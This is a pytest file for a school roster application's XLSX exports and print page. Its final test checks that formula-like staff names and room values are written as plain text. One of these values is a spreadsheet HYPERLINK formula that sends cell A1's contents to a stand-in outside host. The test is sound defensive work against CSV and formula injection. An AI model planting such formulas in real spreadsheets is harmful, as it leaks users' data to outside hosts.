"""Exports: a person's week, the school's roster and workload as XLSX; the print-friendly roster page."""

import io
from datetime import timedelta

import openpyxl

from app.extensions import db
from app.models_base import local_today
from app.rosters.models import RosterSettings
from tests.test_myweek import monday_of, publish_week


def _sheet(response):
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def _publish(world):
    teacher, other = world.users["teacher"], world.users["class_teacher"]
    db.session.add(RosterSettings(school_id=world.own_school.id, subsidy_cents_per_hour=6000))
    monday = monday_of(local_today())
    publish_week(world.own_school, monday, [
        (0, "15:40", "16:40", "after_school", "reading", [teacher.staff_profile], "101", [world.own_class]),
        (1, "15:40", "17:40", "after_school", "sports", [teacher.staff_profile, other.staff_profile], "操场", []),
    ])
    return monday


def test_roster_xlsx(client, world, login):
    monday = _publish(world)
    login(world.users["school_admin"])
    client.post("/language", data={"locale": "en"})
    rows = _sheet(client.get(f"/exports/roster.xlsx?week={monday.isoformat()}"))
    assert rows[0][0] == "Date" and len(rows) == 3
    assert rows[1][:3] == [monday.isoformat(), "15:40", "16:40"]
    assert rows[1][7] == "1年级1班"
    assert set(rows[2][9].split("、")) == {world.users["teacher"].name, world.users["class_teacher"].name}


def test_workload_xlsx(client, world, login):
    monday = _publish(world)
    login(world.users["school_admin"])
    rows = _sheet(client.get(f"/exports/workload.xlsx?week={monday.isoformat()}"))
    by_name = {row[0]: row for row in rows[1:]}
    teacher_row = by_name[world.users["teacher"].name]
    assert teacher_row[2:5] == [2, 180, 2]
    assert teacher_row[6] == 180.0  # 3 hours at ¥60
    assert by_name[world.users["class_teacher"].name][3] == 120


def test_my_week_xlsx_only_own_sessions(client, world, login):
    monday = _publish(world)
    login(world.users["class_teacher"])
    rows = _sheet(client.get(f"/my-week/export.xlsx?week={monday.isoformat()}"))
    assert len(rows) == 2 and rows[1][5] == "操场" and rows[1][8] == 120


def test_print_page_and_empty_week(client, world, login):
    monday = _publish(world)
    login(world.users["school_admin"])
    client.post("/language", data={"locale": "en"})
    page = client.get(f"/exports/roster?week={monday.isoformat()}").get_data(as_text=True)
    assert "操场" in page and "print-table" in page and "no-print" in page
    later = (monday + timedelta(days=14)).isoformat()
    assert "No roster is published for this week yet." in client.get(f"/exports/roster?week={later}").get_data(
        as_text=True)
    assert _sheet(client.get(f"/exports/roster.xlsx?week={later}")) == [[
        "Date", "Start", "End", "Kind", "Activity", "Series", "Room", "Classes", "Children expected", "Staff"]]


HOSTILE = '=HYPERLINK("http://example.invalid/?q="&A1,"点这里")'


def _cells(response):
    assert response.status_code == 200
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(response.get_data())).active.iter_rows()]


def test_exports_write_formula_like_text_as_text(client, world, login):
    """Names and rooms starting with = + - @ (OWASP's CSV injection list) come out as the text typed, not formulas;
    numbers stay numbers."""
    teacher, other = world.users["teacher"], world.users["class_teacher"]
    teacher.name, other.name = HOSTILE, "@SUM(1+1)"
    db.session.add(RosterSettings(school_id=world.own_school.id, subsidy_cents_per_hour=6000))
    monday = monday_of(local_today())
    publish_week(world.own_school, monday, [
        (0, "15:40", "16:40", "after_school", "reading", [teacher.staff_profile], "+1+1", [world.own_class]),
        (1, "15:40", "17:40", "after_school", "sports", [teacher.staff_profile, other.staff_profile], "-2+3", []),
    ])
    week = f"week={monday.isoformat()}"
    login(world.users["school_admin"])
    roster = _cells(client.get(f"/exports/roster.xlsx?{week}"))
    workload = _cells(client.get(f"/exports/workload.xlsx?{week}"))
    client.post("/account/logout")
    login(teacher)
    my_week = _cells(client.get(f"/my-week/export.xlsx?{week}"))
    written = {cell.value: cell for rows in (roster, workload, my_week) for row in rows for cell in row}
    for text in (HOSTILE, "@SUM(1+1)", "+1+1", "-2+3"):
        assert text in written, text
        assert written[text].data_type == "s", text  # text, where a formula would be "f"
    assert not [cell for rows in (roster, workload, my_week) for row in rows for cell in row if cell.data_type == "f"]
    assert isinstance(my_week[1][8].value, int) and my_week[1][8].data_type == "n"
    staff = roster[2][9].value
    assert staff.startswith(("=", "@")) and written[staff].data_type == "s"
